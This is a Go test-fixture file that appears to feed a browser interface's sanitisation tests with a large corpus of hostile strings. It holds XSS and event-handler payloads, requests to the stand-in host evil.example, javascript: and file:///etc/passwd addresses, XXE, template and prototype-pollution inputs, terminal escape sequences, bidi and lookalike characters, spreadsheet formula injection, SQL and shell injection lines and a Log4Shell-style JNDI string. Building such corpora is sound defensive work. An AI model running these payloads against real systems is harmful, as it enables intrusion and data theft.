package browser

import (
	"slices"
	"strings"
)

// hostile is what an adversary writes into any text that Pawl stores. Each string is valid UTF-8 without NUL, as the API accepts it; bytes
// that only a program can write are in escapes.
var hostile = slices.Concat(markup, handlers, resources, addresses, templates, keys, encoded, terminal, directions, invisible, lookalikes, formulas, shells, numbers, shapes)

// markup is HTML, SVG and MathML, including broken markup that parsers repair into something else.
var markup = []string{
	`<script>window.pwned=1</script>`, `<SCRIPT>window.pwned=1</SCRIPT>`, `<scr<script>ipt>window.pwned=1</scr</script>ipt>`, `<script/x>window.pwned=1</script>`, "<script\n>window.pwned=1</script\n>",
	`"><script src=//evil.example/x.js></script>`, `'><script>window.pwned=1</script>`, `</title><script>window.pwned=1</script>`, `</textarea><script>window.pwned=1</script>`,
	`</script><script>window.pwned=1</script>`, `</style><script>window.pwned=1</script>`, `</template><script>window.pwned=1</script>`, `</noscript><script>window.pwned=1</script>`,
	`<script type=module>window.pwned=1</script>`, `<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>`,
	`<template shadowrootmode=open><script>window.pwned=1</script></template>`, `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>`, `<math href="javascript:window.pwned=1">click</math>`,
	`<svg><script>window.pwned=1</script></svg>`, `<svg><style><img src=x onerror=window.pwned=1></style></svg>`, `<svg><foreignObject><body onload=window.pwned=1></foreignObject></svg>`,
	`<svg><desc><![CDATA[</desc><script>window.pwned=1</script>]]></svg>`, `<xmp><script>window.pwned=1</script></xmp>`, `<plaintext>`, `<listing>&lt;img src=x onerror=window.pwned=1&gt;</listing>`,
	`<select><option><script>window.pwned=1</script>`, `<form id=x><input name=nodeType><input name=attributes>`, `<a id=app><a id=app name=href href=//evil.example>`, `<img name=getElementById>`,
	`<custom-element is=x></custom-element>`, `<dialog open>Session expired. Enter your token</dialog>`, `<marquee onstart=window.pwned=1>`, `<isindex action=javascript:window.pwned=1 type=image>`,
	`<!--`, `-->`, `<!--><script>window.pwned=1</script>-->`, `<![CDATA[<script>window.pwned=1</script>]]>`, `]]>`, `<?xml version="1.0"?><?xml-stylesheet href="//evil.example/x.xsl"?>`, `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
	`<`, `</`, `<>`, `&`, `&#`, `"`, `'`, "`", `<a href='`, `<b`, `</pre></div></main></body></html>`,
}

// handlers are elements that would run code as soon as they are in the document.
var handlers = []string{
	`<img src=x onerror="window.pwned=1">`, `<img/src/onerror=window.pwned=1>`, `<image src=x onerror=window.pwned=1>`, "<img src=x\tonerror\n=\nwindow.pwned=1>", `<img src=x:x onerror=window['pwned']=1>`, `<img srcset=x onerror=window.pwned=1>`,
	`<svg onload=window.pwned=1>`, `<svg/onload=window.pwned=1>`, `<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:window.pwned=1>`,
	`<body onload=window.pwned=1>`, `<body onpageshow=window.pwned=1>`, `<body onhashchange=window.pwned=1>`, `<input autofocus onfocus=window.pwned=1>`, `<select autofocus onfocus=window.pwned=1>`, `<details open ontoggle=window.pwned=1>`,
	`<video src=x onerror=window.pwned=1></video>`, `<audio src=x onerror=window.pwned=1>`, `<video><source onerror=window.pwned=1></video>`, `<div onpointerenter=window.pwned=1 style=position:fixed;inset:0>`,
	`<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=window.pwned=1>`, `<p style="transition:all 1s" ontransitionend=window.pwned=1>`, `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=window.pwned=1>`, `<x contenteditable onblur=window.pwned=1>`,
	`" onmouseover="window.pwned=1`, `' autofocus onfocus='window.pwned=1`, `x onerror=window.pwned=1 //`,
}

// resources would make the page call another host, or send its content elsewhere.
var resources = []string{
	`<style>@import url(//evil.example/x.css)</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example/>`, `<link rel=dns-prefetch href=//evil.example>`, `<link rel=manifest href=//evil.example/m.json>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<meta http-equiv=Content-Security-Policy content="default-src *">`, `<meta name=referrer content=unsafe-url>`, `<base href=//evil.example/>`, `<base target=_top>`,
	`<form action=//evil.example><input name=x>`, `<button form=f formaction=javascript:window.pwned=1>x</button>`, `</pre></div><iframe src="javascript:parent.pwned=1"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<object data="data:text/html,<script>parent.pwned=1</script>"></object>`, `<embed src=//evil.example/x.swf>`, `<applet code=x>`, `<frameset><frame src=//evil.example></frameset>`, `<portal src=//evil.example>`,
	`<table background=//evil.example/x.png>`, `<p style="background:url(//evil.example/x.png)">`, `<p style="width:expression(window.pwned=1)">`, `<svg><image href=//evil.example/x.png /></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='window.pwned=1'/>#x" /></svg>`,
	`@import '//evil.example/x.css';`, `input[value^="a"]{background:url(//evil.example/?a)}`, `![x](//evil.example/x.png)`, `[x](javascript:window.pwned=1)`,
}

// addresses are targets that a link must not have.
var addresses = []string{
	`javascript:window.pwned=1`, `JaVaScRiPt:window.pwned=1`, "java\tscript:window.pwned=1", `javascript://evil.example/%0awindow.pwned=1`, `<a href="javascript:window.pwned=1">x</a>`, `<a href="&#106;avascript:window.pwned=1">x</a>`,
	`data:text/html,<script>window.pwned=1</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `blob:null/x`, `filesystem:http://evil.example/x`, `view-source:javascript:1`,
	`//evil.example/`, `\\evil.example\share`, `/\evil.example`, `https:evil.example`, `http://127.0.0.1:7411@evil.example/`, `https://evil.example/#javascript:window.pwned=1`, `https://еvil.example/`, `file:///etc/passwd`, `mailto:x@evil.example?body=x`, `?of=%00`, `#`, `..`, `../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `executions/../../../`, `C:\CON`,
}

// templates are texts that template languages run, including the page's own.
var templates = []string{
	`${window.pwned=1}`, "`+(window.pwned=1)+`", "${`${window.pwned=1}`}", `{{constructor.constructor('window.pwned=1')()}}`, `{{7*7}}`, `<%= window.pwned=1 %>`, `#{window.pwned=1}`, `[[${7*7}]]`, `${{ input.x }}`, `$${{ secrets.X }}`,
	`{% raw %}`, `{"$$typeof":"x","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.pwned=1>"}}}`, `{"type":"script","props":{"children":"window.pwned=1"},"constructor":null,"__v":1}`, `<${x} />`, `ng-app`, `v-html=x`, `{toString(){window.pwned=1}}`, `'-(window.pwned=1)-'`, `";window.pwned=1;//`, `\';window.pwned=1;//`, `\`,
}

// keys are names that objects already have, and values that a guessing language reads as another type.
var keys = []string{
	`__proto__`, `constructor`, `prototype`, `toString`, `valueOf`, `hasOwnProperty`, `__defineGetter__`, `then`, `length`, `toJSON`, `nodeType`, `innerHTML`, `key`, `ref`, `children`, `{"__proto__":{"pwned":1}}`, `constructor.prototype.pwned`,
	`null`, `undefined`, `true`, `NaN`, `Infinity`, `-0`, `[object Object]`, `[]`, `{}`, `on`, `no`, `~`, `!!js/function "function(){window.pwned=1}"`,
}

// encoded are encoded texts that the page must not decode.
var encoded = []string{
	`\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`, `\x3cscript\x3e`, `%3Cscript%3E`, `%253Cscript%253E`, `&lt;script&gt;`, `&amp;lt;script&amp;gt;`, `&#60;script&#62;`, `&#x3c;script&#x3e;`, `&NewLine;&colon;`, `+ADw-script+AD4-`, `%u003cscript%u003e`, `%00`, `%0d%0aSet-Cookie:%20x=1`, `%C0%BCscript%C0%BE`, `\ud83d\ude00`, `\ud800`, `&zwj;&rlm;`, `=?utf-8?B?PHNjcmlwdD4=?=`,
}

// terminal holds sequences that take over a terminal.
var terminal = []string{
	"\x1b[31mred\x1b[0m", "\x1b[38;2;999;0;0mx", "\x1b[38;5;300mx", "\x1b[48;2;1;2;3;4;5mx", "\x1b[1;2;3;4;5;6;7;8;9mall\x1b[m", "\x1b[8mhidden\x1b[28m", "\x1b[5mblink", "\x1b[38;2;0;0;0;48;2;0;0;0mblack on black", "\x1b[" + strings.Repeat("1;", 400) + "mx",
	strings.Repeat("\x1b[31mx\x1b[0my", 700), "\x1b[2J\x1b[H", "\x1b[999;999H", "\x1b[?1049h", "\x1b[?25l", "\x1b[1A\x1b[2Kover", "\x1b[6n", "\x1b[c", "\x1bc", "\x1b]0;title\x07", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]8;;javascript:window.pwned=1\x1b\\link\x1b]8;;\x1b\\",
	"\x1b]8;;https://evil.example/\x07https://bank.example/\x1b]8;;\x07", "\x1b]8;;file:///etc/passwd\x07never ended", "\x1bP1;2|x\x1b\\", "\x1b_Gx\x1b\\", "\x1b^x\x1b\\", "\u009b31mC1", "\u009d0;title\u009c", "\u0090q\u009c", "\x1b", "\x1b[", "\x1b]", "a\bb", "a\rb", "99%\r100%", "\x07", "\x0b\x0c", "\x7f", "\x03\x04", "\x01\x02\x05\x06\x0e\x0f\x10\x1a\x1c\x1f", "\x85next",
}

// directions hold characters that change the direction of writing.
var directions = []string{
	"\u202Eevil\u202C", "\u202Dx", "\u202Ax\u202Bx", "\u2066x\u2069", "\u2067if admin\u2069", "\u2068x", "photo\u202Egnp.exe", "\u200Fx\u200E", "\u061Cx", "שלום (abc) 123", "مرحبا <b>123</b>", "\u202E" + strings.Repeat("x", 500), strings.Repeat("\u2067", 200), "/*\u202E } \u2066if (admin)\u2069 \u2066 */",
}

// invisible holds characters without a glyph, or with too many.
var invisible = []string{
	"zero\u200Bwidth", "no\u200Djoin", "no\u200Cjoin", "\u2060word\u2060", "\uFEFFbom", "soft\u00ADhyphen", "a\u034Fb", "\u3164", "\uFFA0", "\u115F\u1160", "\u180E", "\u2800", "\u00A0", "\u3000", "a\u2028b", "a\u2029b", "\uFFF9note\uFFFAtext\uFFFB", "\uFFFD", "\uFFFE", "\uFDD0", "\U0010FFFF", "\uE000",
	"\U000E0001\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065", "😀\U000E0154\U000E0155", "x\uFE00\uFE0F", "\U0001D173x", strings.Repeat("\u200B", 500), strings.Repeat("a\u0301\u0302\u0303", 200), "Z\u0335\u0321\u0322\u0327\u0328\u0334a", "\u0489\u20DD", "\u0301", " ", "\t", "\n", "\r\n", "  x  ", "\n\n\n\n",
}

// lookalikes are texts that look like other texts.
var lookalikes = []string{
	"раураl", "аdmin", "ⅼocalhost", "ｅｘｅｃ", "𝐜𝐨𝐦𝐩𝐥𝐞𝐭𝐞𝐝", "completed", "Succeeded ✔", "✓ all tests passed", "ﬀ ﬁ ǅ ß ẞ İ ı", "Å Å", "Ⓐⓓⓜⓘⓝ", "😀", "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇩🇪", "‮⟨U+202E⟩", "⟨U+202E⟩", "␀␛[31m", "﷽", "꧅", "𒐫", "ထ", "﹤script﹥", "＜script＞window.pwned=1＜/script＞",
}

// formulas are texts that spreadsheet programs run.
var formulas = []string{
	`=1+1`, `+1`, `-1`, `@SUM(1)`, `=HYPERLINK("https://evil.example/","x")`, `=cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", `"=1+1"`, `;=1+1`, `,"`, `%=1`, `＝1+1`,
}

// shells are texts that run when a program builds commands by joining strings.
var shells = []string{
	`$(touch pwned)`, "`touch pwned`", `; touch pwned`, `| touch pwned`, `' ; touch pwned ; '`, `--help`, `-rf`, `*`, `~/.ssh`, `%s%n%d`, `' OR 1=1 --`, `'; DROP TABLE executions; --`, `%' ESCAPE '`, `(a+)+$`, `[`, `\Q\E`, `${jndi:ldap://evil.example/x}`, `() { :; }; touch pwned`, `event: end`, "x\ndata: {}\n\nevent: end\n", `id: 99999`, `HTTP/1.1 200 OK`,
}

// numbers lose digits or time when a program parses them as numbers or times.
var numbers = []string{
	`9007199254740993`, `1e999`, `-1e-999`, `0x7fffffffffffffff`, `0.1e1`, `1_000`, `00`, `１２３`, `1,000`, `2026-13-45T99:99:99Z`, `9999-12-31T23:59:60Z`, `-1s`, `1e9h`, strings.Repeat("9", 400), "0." + strings.Repeat("0", 300) + "1",
}

// shapes are large, deep or endless.
var shapes = []string{
	strings.Repeat("W", 3000), strings.Repeat("x ", 1500), strings.Repeat("<b>", 500), strings.Repeat("[", 100), strings.Repeat(`{"a":`, 40), strings.Repeat("&", 600), strings.Repeat("\n", 200), strings.Repeat("😀", 400), strings.Repeat("-", 1000), strings.Repeat("\\", 500), strings.Repeat("a\u00AD", 300), strings.Repeat("\t", 300), "https://evil.example/" + strings.Repeat("a/", 400),
}

// escapes are bytes that are not text, including sequences that a terminal would obey.
var escapes = "\x1b]0;title\x07\x1b]8;;javascript:window.pwned=1\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x1b[999;999H\x1b[?1049h\x1b[38;2;999;0;0mx\x1b[5mblink\x1b[8mhidden\x1b[0m\x9b31m\x90q\x9c\x00\x07\r\b\x7f" +
	"\n\xff\xfe\n\xc0\xbcscript\xc0\xbe\n\xed\xa0\x80\xed\xb0\x80\n\xf8\x88\x80\x80\x80\n\xe2\x80\n\x00\x00\x00\n\x80\x81\x9b2J\n"
